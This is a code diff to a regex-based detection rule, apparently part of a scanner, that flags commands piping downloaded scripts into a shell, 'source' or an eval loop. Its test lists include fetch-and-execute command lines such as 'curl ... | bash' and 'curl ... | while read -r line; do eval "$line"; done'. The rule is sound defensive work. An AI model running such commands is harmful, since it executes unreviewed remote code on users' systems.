@@ -29,7 +29,7 @@ export const rule: Rule = {
   match: [
     // curl ... | [sudo] sh
     {
-      re: /(?<![\w.-])(?:curl|wget|fetch|aria2c|axel|lwp-download|http|https|xh|openssl\ss_client)\s[^\n]*\|\s*(?:(?:sudo|doas|env|nohup|exec|command|time|stdbuf|busybox|xargs)\s+(?:-{1,2}[\w=-]+\s+|\w+=\S*\s+)*)*(?:\/[\w./-]*\/)?(?:ba|z|k|da|a|tc|c|fi)?sh(?![\w.-])/,
+      re: /(?<![\w.-])(?:curl|wget|fetch|aria2c|axel|lwp-download|http|https|xh|openssl\ss_client)\s[^\n]*\|\s*(?:(?:\/usr\/bin\/)?(?:sudo|doas|env|nohup|exec|command|time|stdbuf|busybox|xargs)\s+(?:-{1,2}[\w=-]+\s+|\w+=\S*\s+)*)*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|tc|c|fi)?sh|source)(?![\w.-])/,
       window: 768,
       accept: ({ text }) => !NAMED.test(text),
     },
@@ -49,6 +49,11 @@ export const rule: Rule = {
       re: /(?<![\w.-])(?:curl|wget)\s[^\n]*(?:;|&&)\s*(?:sudo\s+)?(?:chmod\s+(?:\+x|[0-7]{3,4}|a\+x|u\+x)\s[^\n]*(?:;|&&)\s*)(?:sudo\s+)?(?:\.?\/|(?:ba|z)?sh\s)/,
       window: 768,
     },
+    // curl ... | while read line; do eval "$line"; done
+    {
+      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*\|\s*while\s[^\n;]*read\s[^\n;]*(?:;|\n)\s*do\s+(?:eval|(?:ba|z)?sh\s+-c)\s/,
+      window: 400,
+    },
     // iwr ... | iex, iex (iwr ...)
     {
       re: /(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)[^\n|]*\|\s*(?:iex|invoke-expression)(?![\w-])/i,
@@ -63,6 +68,9 @@ export const rule: Rule = {
       'curl -fsSL https://files.invalid/install.sh | bash',
       'curl https://files.invalid/install.sh | sh -s -- --install-dir /opt',
       'wget -SO- https://files.invalid/install.sh | sudo -E bash',
+      'curl -fsSL https://files.invalid/install.sh | /usr/bin/env bash',
+      'curl -sL https://files.invalid/install.fish | source',
+      'curl -s https://files.invalid/jobs | while read -r line; do eval "$line"; done',
       'openssl s_client -quiet -connect files.invalid:443 | sh',
       'bash <(curl -s https://files.invalid/x)',
       'sh -c "$(curl -fsSL https://files.invalid/x)"',
@@ -80,6 +88,7 @@ export const rule: Rule = {
       'Avoid `curl | bash`, also as `curl ... | sh`: you never know what you run.',
       'We publish install.sh; read it before you run it.',
       'curl -s https://files.invalid/x | shuf',
+      'curl -s https://files.invalid/list | while read -r name; do echo "$name"; done',
       'curl -s https://api.example.com/v1 | python3 -m json.tool',
       'curl -s https://api.example.com/v1 | python -mjson.tool',
       'curl -s https://api.example.com/v1 | python3 -c "import json,sys; print(json.load(sys.stdin)[0])"',
